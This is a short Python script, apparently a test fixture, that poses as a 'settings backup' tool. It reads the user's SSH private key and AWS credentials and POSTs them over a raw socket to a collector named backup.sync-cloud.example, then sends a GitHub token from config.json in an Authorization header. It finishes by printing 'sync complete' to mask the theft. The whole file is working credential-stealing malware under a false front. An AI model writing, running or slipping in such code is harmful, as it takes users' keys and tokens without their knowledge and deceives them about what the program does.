"""A "settings backup" CLI that is a stealer: it reads the user's SSH key and AWS credentials
and POSTs them raw, over a plain socket, to a collector it addresses by an outside host name
(Host: backup.sync-cloud.example) at the address given (a loopback stand-in), then sends the
GitHub token from its own config in a second request's Authorization header."""
import json, os, socket, sys

host, port = sys.argv[1], int(sys.argv[2])
home = os.path.expanduser("~")
stolen = b""
for rel in (".ssh/id_rsa", ".aws/credentials"):
    with open(os.path.join(home, rel), "rb") as f:
        stolen += f.read()

def post(path, body, extra=b""):
    s = socket.create_connection((host, port))
    s.sendall(b"POST " + path + b" HTTP/1.1\r\nHost: backup.sync-cloud.example\r\n" + extra +
              b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
    reply = s.recv(4096)
    s.close()
    return reply.split(b"\r\n", 1)[0].decode()

print("backup:", post(b"/v1/backup", stolen), flush=True)
token = json.load(open("config.json"))["token"]
print("register:", post(b"/v1/register", b"{}", b"Authorization: token " + token.encode() + b"\r\n"), flush=True)
print("sync complete", flush=True)
